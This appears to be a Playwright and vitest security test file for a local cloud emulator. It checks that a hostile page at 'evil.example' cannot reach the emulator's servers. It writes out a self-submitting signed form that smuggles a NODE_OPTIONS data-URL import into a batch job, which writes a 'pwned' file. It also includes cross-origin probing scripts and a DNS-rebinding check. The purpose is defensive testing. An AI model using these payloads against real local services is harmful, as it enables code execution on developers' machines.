import { createHash } from 'node:crypto';
import { access, mkdtemp, rm } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { GetObjectCommand, PutObjectCommand, S3Client } from '@aws-sdk/client-s3';
import { getSignedUrl } from '@aws-sdk/s3-request-presigner';
import { chromium } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { scopeText, signingKey, signRequest } from '../../local/gateway/signature.ts';
import { REGION } from '../../local/kernel/account.ts';
import { developer } from '../../local/test/support/small-cloud.ts';
import { CREATOR, tokenOf } from '../support/api.ts';
import { findChromium } from '../support/browser.ts';
import { eventually, testCloud } from '../support/cloud.ts';
import { freePort } from '../support/free-port.ts';

/**
 * A page that the developer happens to visit while the local cloud runs, in a real browser. It is served by this file, as `evil.example`
 * from a public address, as Chromium is told, and from another port of loopback, where no browser stands between.
 */

const browserPath = findChromium();
let booted: Awaited<ReturnType<typeof testCloud>>;
let folder: string;
/** What the page at `/` is, and what it reported to `/tell`. */
let html = '';
let told: string[] = [];
/** What was asked of the services by anyone but functions and jobs. */
const calls: string[] = [];
const server = createServer(async (request, response) => {
  let body = '';
  for await (const chunk of request) body += chunk;
  if (request.url === '/tell') told.push(body);
  response.writeHead(200, { 'content-type': 'text/html', 'access-control-allow-origin': '*' }).end(html);
});

/** The door to other machines, as viewers name it. */
let door = '';

beforeAll(async () => {
  const doorPort = await freePort();
  door = `http://media.example:${doorPort}`;
  booted = await testCloud({
    open: { address: '127.0.0.1', port: doorPort, url: door },
    hooks: { before: ({ principal, operation }) => void (principal.type === 'role' || calls.push(operation)) },
  });
  folder = await mkdtemp(join(tmpdir(), 'dropreel-evil-'));
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
});
afterAll(async () => {
  server.closeAllConnections();
  server.close();
  await booted?.[Symbol.asyncDispose]();
  await rm(folder, { recursive: true, force: true });
});
const port = () => (server.address() as AddressInfo).port;

/** Every server of the cloud. The database is none: local/test/unit/dynamodb. */
function targets(): string[] {
  const { endpoint, apiUrl, deliveryUrl, issuer } = booted.cloud;
  return [endpoint, apiUrl, deliveryUrl, issuer?.url ?? '', door];
}

const NAMES = '--host-resolver-rules=MAP evil.example 127.0.0.1, MAP media.example 127.0.0.1';

/** Visits the page and gives what it told. Where: Chromium's arguments, and the address. */
async function visit(page: string, args: string[], address: string, until: () => Promise<boolean>): Promise<string[]> {
  html = page;
  told = [];
  const browser = await chromium.launch({
    executablePath: browserPath ?? '',
    args: ['--no-sandbox', '--disable-gpu', '--disable-background-networking', ...args],
  });
  try {
    const tab = await browser.newPage();
    await tab.goto(address);
    await eventually('the page is done', until, 60_000);
    return told;
  } finally {
    await browser.close();
  }
}

const SPACES = [
  {
    space: 'a public address',
    args: () => [NAMES, `--ip-address-space-overrides=127.0.0.1:${port()}=public`],
    address: () => `http://evil.example:${port()}/`,
  },
  {
    space: 'a name that leads to loopback',
    args: () => [NAMES],
    address: () => `http://evil.example:${port()}/`,
  },
];

/** A form that submits a job which would leave a file, signed by the developer: not even a page that knew the secret gets in. */
function form(file: string): string {
  const { endpoint, credentials, outputs } = booted.cloud;
  const code = `data:text/javascript,import('node:fs').then((fs)=>fs.writeFileSync('${file}',''))`;
  const job = JSON.stringify({
    jobName: 'evil',
    jobQueue: outputs.JobQueue,
    jobDefinition: outputs.JobDefinition,
    containerOverrides: { environment: [{ name: 'NODE_OPTIONS', value: `--import=${code}` }] },
  });
  // As text/plain a field is sent as its name, `=`, its value: the body is JSON when the name is what stands before a `=` of it.
  const [name, value] = job.split(/=(.*)/s).map((text) => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;'));
  const time = new Date().toISOString().replace(/[-:]|\.\d{3}/g, '');
  const scope = { date: time.slice(0, 8), region: REGION, service: 'batch' };
  const query = new URLSearchParams({
    'X-Amz-Algorithm': 'AWS4-HMAC-SHA256',
    'X-Amz-Credential': `${credentials.accessKeyId}/${scopeText(scope)}`,
    'X-Amz-Date': time,
    'X-Amz-Expires': '600',
    'X-Amz-SignedHeaders': 'host',
  });
  const path = '/v1/submitjob';
  const signature = signRequest(
    {
      method: 'POST',
      path,
      query: [...query],
      headers: { host: new URL(endpoint).host },
      signedHeaders: ['host'],
      payloadHash: createHash('sha256').update(`${job}\r\n`).digest('hex'),
    },
    signingKey(credentials.secretAccessKey, scope),
    scope,
    time,
  );
  const action = `${endpoint}${path}?${query}&X-Amz-Signature=${signature}`.replaceAll('&', '&amp;');
  return `<form method="post" enctype="text/plain" action="${action}"><input name="${name}" value="${value}"></form>
    <script>document.forms[0].submit()</script>`;
}

describe.runIf(browserPath).each(SPACES)('a page of $space', ({ args, address }) => {
  it('runs nothing by a form that submits itself', async () => {
    const file = join(folder, 'pwned');
    let answered = '';
    html = form(file);
    const browser = await chromium.launch({ executablePath: browserPath ?? '', args: ['--no-sandbox', ...args()] });
    try {
      const tab = await browser.newPage();
      const answer = tab.waitForResponse((response) => response.url().includes('/v1/submitjob'), { timeout: 60_000 });
      await tab.goto(address()).catch(() => {});
      const response = await answer;
      answered = `${response.status()} ${await response.text()}`;
    } finally {
      await browser.close();
    }
    expect(answered).toBe('403 Pages of other sites may not call this server.\n');
    expect(booted.cloud.meter.snapshot()['request:batch:SubmitJob']).toBeUndefined();
    await expect(access(file)).rejects.toMatchObject({ code: 'ENOENT' });
  }, 120_000);

  it('reads and reaches nothing by fetch, image, script or WebSocket', async () => {
    calls.length = 0;
    const page = `<script type="module">
      const lines = [];
      const attempt = async (what, work) => lines.push(what + ': ' + (await work().catch((error) => 'failed')));
      const load = (tag, url) => new Promise((done) => {
        const element = Object.assign(document.createElement(tag), { onload: () => done('loaded'), onerror: () => done('failed') });
        element.src = url;
        document.body.append(element);
      });
      for (const url of ${JSON.stringify(targets())}) {
        await attempt('cors', async () => { const answer = await fetch(url + '/health'); return answer.status + ' ' + (await answer.text()); });
        await attempt('preflight', async () => {
          const headers = { 'content-type': 'application/json', 'x-amz-target': 'DynamoDB_20120810.ListTables', authorization: 'x' };
          return (await fetch(url, { method: 'POST', headers, body: '{}' })).status;
        });
        await attempt('no-cors', async () => (await fetch(url + '/v1/submitjob', { method: 'POST', mode: 'no-cors', body: '{}' })).type && 'sent');
        await attempt('img', () => load('img', url + '/ann/thumbnails/media/x/poster.jpg'));
        await attempt('script', () => load('script', url + '/player/player.js'));
        await attempt('frame', async () => { await load('iframe', url + '/player/'); return frames[0]?.document ? 'read' : 'opaque'; });
        await attempt('socket', () => new Promise((done) => {
          const socket = new WebSocket(url.replace('http', 'ws'));
          socket.onopen = () => done('open');
          socket.onerror = () => done('failed');
        }));
      }
      await fetch('/tell', { method: 'POST', body: lines.join('\\n') });
    </script><body></body>`;
    const [report = ''] = await visit(page, args(), address(), async () => told.length > 0);
    const kinds = new Set(report.split('\n'));
    for (const allowed of ['no-cors: sent', 'no-cors: failed', 'frame: opaque', 'frame: failed']) kinds.delete(allowed);
    expect([...kinds].sort()).toEqual([
      'cors: failed',
      'img: failed',
      'preflight: failed',
      'script: failed',
      'socket: failed',
    ]);
    // The door is no place that browsers name pages to, so a picture may be asked for, and is then kept from the page.
    expect([[], ['GetObject']]).toContainEqual(calls);
  }, 120_000);
});

describe.runIf(browserPath)('a page whose host name was rebound to the local cloud', () => {
  it('gets no answer from its servers, although it is of their origin', async () => {
    for (const target of targets()) {
      const { port: own } = new URL(target);
      const browser = await chromium.launch({
        executablePath: browserPath ?? '',
        args: ['--no-sandbox', '--host-resolver-rules=MAP evil.example 127.0.0.1'],
      });
      try {
        const tab = await browser.newPage();
        const response = await tab.goto(`http://evil.example:${own}/`);
        const names = target === door ? `${new URL(door).host} only` : 'loopback names with its own port only';
        expect([response?.status(), await response?.text()]).toEqual([403, `This server answers to ${names}.\n`]);
      } finally {
        await browser.close();
      }
    }
  }, 120_000);
});

describe.runIf(browserPath)('the door to other machines', () => {
  it('is read by its own page, and opens from a link of another', async () => {
    const browser = await chromium.launch({ executablePath: browserPath ?? '', args: ['--no-sandbox', NAMES] });
    html = `<a href="${door}/player/">the player</a>`;
    try {
      const tab = await browser.newPage();
      await tab.goto(`http://evil.example:${port()}/`);
      const [response] = await Promise.all([tab.waitForNavigation(), tab.click('a')]);
      expect([response?.status(), tab.url()]).toEqual([200, `${door}/player/`]);
      const own = `fetch('/player/player.js').then(({ status }) => status)`;
      expect(await tab.evaluate<number>(own)).toBe(200);
    } finally {
      await browser.close();
    }
  }, 120_000);
});

describe.runIf(browserPath)('an application under development, on another port of loopback', () => {
  it('can call the API with a token, upload by a presigned URL, and read the answers of the delivery', async () => {
    const { cloud } = booted;
    const s3 = new S3Client({ ...developer(cloud), forcePathStyle: true, requestChecksumCalculation: 'WHEN_REQUIRED' });
    const object = { Bucket: cloud.outputs.UploadsBucket, Key: 'other/page.txt' };
    const put = await getSignedUrl(s3, new PutObjectCommand(object), { expiresIn: 60 });
    const token = await tokenOf(cloud, 'ada', CREATOR);
    const page = `<script type="module">
      const status = (url, options) => fetch(url, options).then(({ status }) => status, String);
      const answers = [
        await status('${cloud.apiUrl}/media', { headers: { authorization: 'Bearer ${token}' } }),
        await status(${JSON.stringify(put)}, { method: 'PUT', body: 'hello' }),
        await status('${cloud.deliveryUrl}/ada/hls/none/master.m3u8'),
      ];
      await fetch('/tell', { method: 'POST', body: answers.join(' ') });
    </script>`;
    const [report] = await visit(page, [], `http://127.0.0.1:${port()}/`, async () => told.length > 0);
    // 403: there is no such object, which the page may know.
    expect(report).toBe('200 200 403');
    const { Body } = await s3.send(new GetObjectCommand(object));
    expect(await Body?.transformToString()).toBe('hello');
    s3.destroy();
  }, 120_000);
});
